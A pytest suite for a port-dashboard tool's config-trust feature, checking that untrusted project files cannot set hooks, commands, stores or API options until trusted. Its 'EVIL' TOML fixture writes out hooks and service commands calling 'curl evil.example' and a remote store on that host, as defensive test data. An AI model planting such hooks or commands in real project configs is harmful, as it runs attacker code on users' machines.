import json
import stat
from pathlib import Path
from threading import Thread

import pytest
from config_setting import Setting

from portdash.config.trust import TRUSTED, is_trusted, record_trust
from portdash.errors import ConfigError
from portdash.model.plan import Strategy

EVIL = """
strategy = "aggressive"
base_port = 4100
workspace = "shop"
return_home = false
store = "redis://evil.example:6379/0"
[dashboard]
theme = "evil"
[health]
interval = "1ms"
[discovery]
cluster = ["http://evil.example"]
[api]
allow_kill = true
[keys]
quit = "x"
[[ranges]]
name = "all"
range = [3000, 3999]
type = "web"
[services.web]
preferred = 3000
command = "curl evil.example"
depends_on = ["remote", "local"]
conflicts_with = ["remote"]
[services.web.health]
http_get = "/"
headers = { Authorization = "x" }
[services.job]
health = { exec = ["curl", "evil.example"] }
[services.remote]
url = "https://evil.example"
[services.local]
url = "http://localhost:1234"
[[hooks]]
on = ["moved"]
command = "curl evil.example"
[environments.staging]
base_port = 4200
hooks = [{ on = ["moved"], command = "curl evil.example" }]
store = "sqlite:////tmp/evil.db"
[environments.staging.services.web]
command = "curl evil.example"
"""


def test_an_untrusted_project_sets_only_what_cannot_harm(setting: Setting):
    setting.shop(EVIL)
    config = setting.load()
    plain = Setting(setting.home / "src")
    built_in = plain.load()
    assert not config.trusted
    assert not config.policy().trusted
    assert (config.strategy, config.base_port, config.workspace_base) == (Strategy.AGGRESSIVE, 4100, "shop")
    assert [each.type for each in config.ranges] == ["web"]
    assert [each.name for each in config.services] == ["web", "job", "local"]
    for name in ("return_home", "dashboard", "health", "discovery", "api", "keys", "hooks"):
        assert getattr(config, name) == getattr(built_in, name), name
    assert config.store == f"sqlite:///{setting.home}/.local/state/portdash/portdash.db"
    web, job = config.service("web"), config.service("job")
    assert web is not None
    assert job is not None
    assert web.command == ("curl", "evil.example")
    assert not web.may_start
    assert web.depends_on == ("local",)
    assert web.spec.conflicts_with == ()
    assert web.health is not None
    assert (web.health.http_get, dict(web.health.headers)) == ("/", {})
    assert job.health is None
    assert job.may_start


def test_what_an_environment_section_says_waits_too(setting: Setting):
    setting.shop(EVIL)
    config = setting.load(environment="staging")
    assert config.base_port == 4200
    assert config.hooks == ()
    assert config.store.startswith("sqlite:")
    assert "/tmp/evil.db" not in config.store


def test_each_thing_left_out_is_said_once_with_the_remedy(setting: Setting):
    setting.shop(EVIL)
    warnings = setting.load().warnings
    assert len(set(warnings)) == len(warnings)
    for key in ("return_home", "store", "dashboard", "health", "discovery", "api", "keys", "hooks",
                "services.web.command", "services.web.health.headers", "services.job.health.exec", "services.remote",
                "environments.staging.hooks", "environments.staging.store"):  # fmt: skip
        assert len([line for line in warnings if f": {key} is " in line]) == 1, key
    assert all(str(setting.project_file) in line and "`portdash trust`" in line for line in warnings)


def test_a_trusted_project_sets_everything(setting: Setting):
    setting.shop(EVIL, trusted=True)
    config = setting.load()
    assert config.trusted
    assert config.policy().trusted
    assert config.warnings == ()
    assert config.store == "redis://evil.example:6379/0"
    assert config.dashboard.theme == "evil"
    assert config.api.allow_kill
    assert len(config.hooks) == 1
    web = config.service("web")
    assert web is not None
    assert web.may_start
    assert config.service("remote") is not None


def test_an_edited_file_waits_again(setting: Setting):
    setting.shop("return_home = false", trusted=True)
    assert not setting.load().return_home
    setting.shop("return_home = false # changed")
    assert setting.load().return_home
    assert not setting.load().trusted


def test_a_copy_elsewhere_is_not_trusted(setting: Setting):
    setting.shop("return_home = false", trusted=True)
    copy = Setting(setting.home / "copy")
    copy.shop("return_home = false")
    state = setting.home / ".local/state/portdash"
    assert is_trusted(setting.project_file, state)
    assert not is_trusted(copy.project_file, state)


@pytest.mark.parametrize("path", ["ports.json", "config/ports.json"])
def test_a_json_store_inside_the_project_needs_no_trust(setting: Setting, path: str):
    setting.shop(f'store = "json:{path}"')
    config = setting.load()
    assert config.store == f"json:{setting.project}/{path}"
    assert config.warnings == ()


@pytest.mark.parametrize("path", ["../ports.json", "/etc/ports.json", "~/ports.json", "link/ports.json"])
def test_a_json_store_outside_the_project_waits(setting: Setting, path: str):
    (setting.project / "link").symlink_to(setting.home)
    setting.shop(f'store = "json:{path}"')
    config = setting.load()
    assert config.store.startswith("sqlite:")
    assert len(config.warnings) == 1


def test_a_command_of_the_users_own_file_may_start_in_an_untrusted_project(setting: Setting):
    setting.user('[services.web]\ncommand = "npm start"')
    setting.shop("[services.web]\npreferred = 3000")
    web = setting.load().service("web")
    assert web is not None
    assert web.may_start
    assert web.root == setting.user_file.parent
    setting.shop('[services.WEB]\ncommand = "evil"')
    web = setting.load().service("web")
    assert web is not None
    assert not web.may_start


def test_a_file_named_on_purpose_counts_in_full(setting: Setting):
    setting.shop("base_port = 1111")
    (setting.home / "other.toml").write_text("base_port = 2222\nreturn_home = false")
    config = setting.load(config=Path("../../other.toml"))
    assert (config.base_port, config.return_home, config.trusted) == (2222, False, True)
    assert config.project_file == setting.project / "../../other.toml"


@pytest.mark.parametrize("mode", [0o646, 0o666])
def test_a_file_everybody_can_change_is_ignored_with_a_warning(setting: Setting, mode: int):
    setting.shop("base_port = 1111")
    setting.project_file.chmod(mode)
    (setting.home / "src" / "portdash.toml").write_text("base_port = 2222")
    setting.user("base_port = 3333")
    setting.user_file.chmod(mode)
    config = setting.load()
    assert config.base_port == 2222
    assert [line for line in config.warnings if "ignored: it can be changed by every user" in line] == list(
        config.warnings
    )
    assert len(config.warnings) == 2


def test_a_file_everybody_can_change_cannot_be_named_or_trusted(setting: Setting):
    setting.shop("base_port = 1111")
    setting.project_file.chmod(0o666)
    with pytest.raises(ConfigError, match="can be changed by every user"):
        setting.load(config=setting.project_file)
    with pytest.raises(ConfigError, match="can be changed by every user"):
        record_trust(setting.project_file, setting.home / "state")
    assert not (setting.home / "state").exists()


def test_the_record_is_private_and_complete(setting: Setting):
    state = setting.home / "state"
    setting.shop("a = 1")
    digest = record_trust(setting.project_file, state)
    found = json.loads((state / TRUSTED).read_text())
    assert found == {"version": 1, "trusted": {str(setting.project_file): digest}}
    assert stat.S_IMODE((state / TRUSTED).stat().st_mode) == 0o600
    assert sorted(path.name for path in state.iterdir()) == [TRUSTED, f"{TRUSTED}.lock"]


def test_the_record_goes_by_the_real_place(setting: Setting):
    state = setting.home / "state"
    setting.shop("a = 1")
    (setting.home / "link").symlink_to(setting.project)
    record_trust(setting.home / "link" / "portdash.toml", state)
    assert is_trusted(setting.project_file, state)


@pytest.mark.parametrize(
    "content",
    ["", "{", "[]", '{"version": 2, "trusted": {}}', '{"version": 1, "trusted": {"a": 1}}', "[" * 100_000, "\udcff"],
)
def test_a_damaged_record_trusts_nothing_and_is_never_overwritten(setting: Setting, content: str):
    setting.shop("return_home = false", trusted=True)
    record = setting.home / ".local/state/portdash" / TRUSTED
    damaged = content.encode("utf-8", "surrogateescape")
    record.write_bytes(damaged)
    config = setting.load()
    assert not config.trusted
    assert config.return_home
    assert any("no project is trusted" in line for line in config.warnings)
    with pytest.raises(ConfigError, match="is not a record of trust"):
        record_trust(setting.project_file, record.parent)
    assert record.read_bytes() == damaged


def test_a_record_that_others_can_write_trusts_nothing(setting: Setting):
    setting.shop("return_home = false", trusted=True)
    (setting.home / ".local/state/portdash" / TRUSTED).chmod(0o666)
    assert not setting.load().trusted


def test_many_at_once_lose_nothing(setting: Setting):
    state = setting.home / "state"
    files = [setting.home / f"p{number}" / "portdash.toml" for number in range(12)]
    for file in files:
        file.parent.mkdir()
        file.write_text("")
    threads = [Thread(target=record_trust, args=(file, state)) for file in files]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(is_trusted(file, state) for file in files)


def test_a_state_directory_that_cannot_be_written_is_an_error(setting: Setting):
    setting.shop("")
    (setting.home / "state").write_text("a file in its place")
    with pytest.raises(ConfigError, match="cannot be written"):
        record_trust(setting.project_file, setting.home / "state")


def test_trust_of_a_missing_file_is_an_error(setting: Setting):
    with pytest.raises(ConfigError, match="no such file"):
        record_trust(setting.project / "nothing.toml", setting.home / "state")
    assert [path.name for path in setting.home.iterdir()] == ["src"]
